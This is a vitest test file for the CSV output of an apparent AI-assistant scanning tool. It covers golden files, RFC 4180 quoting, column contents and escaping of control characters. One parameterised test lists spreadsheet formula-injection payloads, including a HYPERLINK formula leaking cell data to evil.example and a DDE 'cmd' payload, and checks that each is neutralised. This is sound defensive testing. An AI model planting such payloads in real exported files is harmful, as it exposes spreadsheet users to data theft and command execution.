/** @fileoverview Tests for the CSV report: golden files, RFC 4180 quoting that round-trips, and formula injection from hostile evidence. */
import { describe, expect, test } from 'vitest';
import type { Finding } from '../model/finding.js';
import type { ScanResult } from '../model/scan-result.js';
import { SAMPLE_AUDIT } from '../../../../test/helpers/report/audit-sample.js';
import { CSV_COLUMNS, csvField, renderCsv } from './csv.js';
import { parseCsv } from '../../../../test/helpers/report/csv-parse.js';
import { expectGolden } from '../../../../test/helpers/report/golden.js';
import { SAMPLE_ASSISTANTS, SAMPLE_SCAN, SAMPLE_SCAN_WITHOUT_POLICY } from '../../../../test/helpers/report/sample-scan.js';

const context = { assistants: SAMPLE_ASSISTANTS };

/** The rows as objects keyed by header. */
function records(csv: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(csv);
  return rows.map((row) => Object.fromEntries(header!.map((column, index) => [column, row[index]!])));
}

function withFinding(finding: Partial<Finding>): ScanResult {
  return { ...SAMPLE_SCAN, findings: [{ ...SAMPLE_SCAN.findings[0]!, ...finding }] };
}

describe('renderCsv', () => {
  test('renders the sample scan as the golden file', () => {
    expectGolden('csv-basic.csv', renderCsv(SAMPLE_SCAN, context));
  });

  test('renders the sample audit as the golden file', () => {
    expectGolden('csv-audit.csv', renderCsv(SAMPLE_AUDIT, context));
  });

  test('starts with the header row and ends every row with CRLF', () => {
    const csv = renderCsv(SAMPLE_SCAN, context);
    expect(csv.split('\r\n')[0]).toBe(CSV_COLUMNS.join(','));
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    expect(parseCsv(csv).every((row) => row.length === CSV_COLUMNS.length)).toBe(true);
  });

  test('fills the columns that apply and leaves the others empty', () => {
    const [path, ref, commit] = records(renderCsv(SAMPLE_SCAN, context));
    expect(path).toMatchObject({ host: 'dev-laptop', os: 'linux 6.1.0-28-amd64', source: '', assistant: 'claude-code', assistant_name: 'Claude Code', verdict: 'block', path: 'CLAUDE.md', commit: '', line: '' });
    expect(ref).toMatchObject({ ref: 'refs/heads/claude/x-3T29K', verdict: 'warn', path: '' });
    expect(commit).toMatchObject({ commit: '3f2a9c1d0e4b8a7f6e5d4c3b2a1908f7e6d5c4b3', line: '5', date: '2025-11-03T14:22:09+01:00', repository: '/work/repo' });
    expect(commit!.policy_layers).toBe('repository /work/repo/.aiguard.json');
  });

  test('puts the run on every row and the author, committer, subject and refs on commit rows', () => {
    const rows = records(renderCsv(SAMPLE_SCAN, context));
    for (const row of rows) {
      expect(row).toMatchObject({ machine_id: SAMPLE_SCAN.run!.machineId, run_id: SAMPLE_SCAN.run!.runId, run_time: '2026-12-07T09:50:00.000Z', policy_digest: SAMPLE_SCAN.run!.policyDigest });
    }
    expect(rows[0]).toMatchObject({ author_name: '', subject: '', refs: '' });
    expect(rows[2]).toMatchObject({
      author_name: 'Ana Dev',
      author_email: 'ana@example.com',
      committer_date: '2025-11-03T14:25:00+01:00',
      subject: 'Fix the login form',
      refs: 'refs/heads/main refs/tags/v1.2.0',
    });
  });

  test('fills host, os, user and source for an audit, and lists every policy layer', () => {
    const rows = records(renderCsv(SAMPLE_AUDIT, context));
    expect(rows.map(({ host, os, user, source, pid, extension_id }) => [host, os, user, source, pid, extension_id])).toEqual([
      ['ws-042', 'linux 6.1.0', 'ana', 'home', '', ''],
      ['ws-042', 'linux 6.1.0', 'bea', 'extensions', '', 'anthropic.claude-code'],
      ['ws-042', 'linux 6.1.0', 'ana', 'processes', '4242', ''],
      ['ws-042', 'linux 6.1.0', '', 'repositories', '', ''],
    ]);
    expect(rows[0]!.policy_layers).toBe('managed /etc/aiguard/policy.json; user /home/ana/.config/aiguard/policy.json');
  });

  test('leaves policy_layers empty when no policy was found', () => {
    expect(records(renderCsv(SAMPLE_SCAN_WITHOUT_POLICY, context)).map((row) => row.policy_layers)).toEqual(['', '', '']);
  });

  test('quotes fields with commas, quotes and line breaks, doubling quotes, and they read back unchanged', () => {
    const evidence = 'Co-Authored-By: "Claude, the bot" <noreply@anthropic.com>\r\nsecond line\nthird';
    const csv = renderCsv(withFinding({ excerpt: evidence, location: { path: 'dir,with "quotes"/CLAUDE.md' } }), context);
    expect(csv).toContain('"Co-Authored-By: ""Claude, the bot"" <noreply@anthropic.com>\r\nsecond line\nthird"');
    const [row] = records(csv);
    expect(row!.evidence).toBe(evidence);
    expect(row!.path).toBe('dir,with "quotes"/CLAUDE.md');
  });

  test.each(['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', ' =1+1', '\n=1+1', '  \n @SUM(A1)'])(
    'neutralises the formula %j with a leading quote, in evidence and in paths',
    (hostile) => {
      const [row] = records(renderCsv(withFinding({ excerpt: hostile, location: { path: hostile, ref: hostile } }), context));
      expect(row!.evidence).toBe(`'${hostile}`);
      expect(row!.path).toBe(`'${hostile}`);
      expect(row!.ref).toBe(`'${hostile}`);
    },
  );

  test('escapes ESC, BEL, VT, FF and a lone CR in a path, so `cat report.csv` cannot drive the terminal', () => {
    const hostile = 'a\x1b[2Jb\x07c\x0bd\x0ce\rf.md';
    const [row] = records(renderCsv(withFinding({ excerpt: 'x', location: { path: hostile } }), context));
    expect(row!.path).toBe('a\\u{1b}[2Jb\\u{7}c\\u{b}d\\u{c}e\\u{d}f.md');
  });

  test('leaves a formula character alone when it is not the first one', () => {
    expect(csvField('a=1')).toBe('a=1');
    expect(csvField('x@example.com')).toBe('x@example.com');
    expect(csvField('=1')).toBe("'=1");
    expect(csvField('=1,2')).toBe(`"'=1,2"`);
  });

  test('writes the header alone when there is nothing to report', () => {
    const empty: ScanResult = { ...SAMPLE_SCAN, findings: [] };
    expect(renderCsv(empty, context)).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
  });
});
